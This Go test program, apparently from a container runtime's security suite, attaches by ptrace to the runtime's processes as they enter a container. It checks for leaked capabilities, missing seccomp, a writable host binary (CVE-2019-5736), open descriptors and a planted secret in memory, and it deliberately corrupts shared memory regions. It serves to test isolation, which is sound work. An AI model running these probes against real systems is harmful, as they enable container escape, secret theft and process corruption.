// Command attacker runs in a container with CAP_SYS_PTRACE and looks for processes
// that are on their way into it: born into the PID namespace but not yet executing
// the container's program. Of each it prints what an attacker could take from it.
//
//	attacker SECRET FILE [beside]
//
// With beside, it shares only the PID namespace with its victims. It ends when FILE exists. SECRET is text that the memory of hoy's own processes
// contains; finding it in a process here is a leak.
package main

import (
	"bytes"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: attacker SECRET FILE [beside]")
		os.Exit(2)
	}
	a := attacker{secret: []byte(os.Args[1]), own: os.Getpid(), beside: len(os.Args) > 3}
	a.mnt, _ = os.Readlink("/proc/self/ns/mnt")
	a.caps = field(a.own, "CapPrm")
	runtime.LockOSThread() // a tracer is a thread
	fmt.Println("watching")
	for rounds := 0; ; rounds++ {
		a.look()
		if rounds%100 == 0 {
			if _, err := os.Stat(os.Args[2]); err == nil {
				break
			}
		}
	}
	fmt.Println("caught", a.caught, "held", a.held)
}

type attacker struct {
	secret []byte
	own    int
	mnt    string // our mount namespace
	caps   string // our permitted capabilities
	caught int
	held   int  // of those, stopped
	beside bool // the victims are of another container
}

func (a *attacker) look() {
	d, err := os.Open("/proc")
	if err != nil {
		return
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil && pid != a.own && pid != 1 {
			a.inspect(pid)
		}
	}
}

// inspect takes a process in the middle of its way.
func (a *attacker) inspect(pid int) {
	if !onItsWay(pid) {
		return
	}
	held := hold(pid)
	if !onItsWay(pid) {
		release(pid, held)
		return
	}
	a.caught++
	if held {
		a.held++
	}
	if caps := field(pid, "CapPrm"); caps != "" && more(caps, a.caps) {
		fmt.Println("leak: a process with capabilities", caps)
	}
	if field(pid, "Seccomp") == "0" {
		fmt.Println("leak: a process without seccomp filter")
	}
	if mnt, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/mnt", pid)); err == nil && !a.beside && mnt != a.mnt {
		fmt.Println("leak: a process in another mount namespace", mnt)
	}
	if root, err := os.Readlink(fmt.Sprintf("/proc/%d/root", pid)); err == nil && root != "/" {
		fmt.Println("leak: a process with root directory", root)
	}
	a.binary(pid)
	a.descriptors(pid)
	a.memory(pid)
	release(pid, held)
}

// hold stops a process by tracing it (PTRACE_SEIZE, PTRACE_INTERRUPT).
func hold(pid int) bool {
	if _, _, e := syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceSeize, uintptr(pid), 0, 0, 0, 0); e != 0 {
		return false
	}
	syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceInterrupt, uintptr(pid), 0, 0, 0, 0)
	var st syscall.WaitStatus
	for range 1000 { // it may be in a system call that does not end
		if p, err := syscall.Wait4(pid, &st, syscall.WNOHANG|syscall.WALL, nil); p == pid || err != nil {
			return err == nil && st.Stopped()
		}
		syscall.Select(0, nil, nil, nil, &syscall.Timeval{Usec: 50})
	}
	return false
}

func release(pid int, held bool) {
	if held {
		syscall.PtraceDetach(pid)
	}
}

const (
	ptraceSeize     = 0x4206
	ptraceInterrupt = 0x4207
)

// onItsWay tells whether a process has still the command line of one of hoy's.
func onItsWay(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	return err == nil && bytes.Contains(b, []byte("spawn-helper")) || bytes.Contains(b, []byte("hoy-keeper"))
}

// binary sees whether the host's program that the process still is could be written,
// by the way of CVE-2019-5736. That it is busy today does not protect it tomorrow.
func (a *attacker) binary(pid int) {
	path := fmt.Sprintf("/proc/%d/exe", pid)
	if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
		f.Close()
		fmt.Println("leak: hoy's program can be written")
	}
	const readOnly = 1 // ST_RDONLY, statfs(2)
	var fs syscall.Statfs_t
	if err := syscall.Statfs(path, &fs); err == nil && fs.Flags&readOnly == 0 {
		fmt.Println("leak: hoy's program could be written if it did not run")
	}
}

func (a *attacker) descriptors(pid int) {
	es, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	for _, e := range es {
		if n, _ := strconv.Atoi(e.Name()); n > 2 {
			to, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%d", pid, n))
			if err == nil {
				fmt.Println("leak: descriptor", n, to)
			}
		}
	}
}

// memory searches what can be read for the secret, and tries to write.
func (a *attacker) memory(pid int) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return
	}
	mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer mem.Close()
	for _, l := range strings.Split(string(maps), "\n") {
		var lo, hi int64
		var perm string
		if n, _ := fmt.Sscanf(l, "%x-%x %s", &lo, &hi, &perm); n != 3 || perm[0] != 'r' || hi-lo > 64<<20 {
			continue
		}
		b := make([]byte, hi-lo)
		n, _ := syscall.Pread(int(mem.Fd()), b, lo)
		if n > 0 && bytes.Contains(b[:n], a.secret) {
			fmt.Println("leak: the secret is in the memory at", l)
		}
		if perm[3] == 's' && n > 0 {
			// Shared with somebody: what is written here is for him to swallow.
			for i := range b[:n] {
				b[i] ^= 0xff
			}
			syscall.Pwrite(int(mem.Fd()), b[:n], lo)
		}
	}
}

// more says whether the hexadecimal set x has something that y has not.
func more(x, y string) bool {
	a, err1 := strconv.ParseUint(x, 16, 64)
	b, err2 := strconv.ParseUint(y, 16, 64)
	return err1 != nil || err2 != nil || a&^b != 0
}

func field(pid int, name string) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, name+":"); ok {
			return strings.TrimSpace(v)
		}
	}
	return ""
}
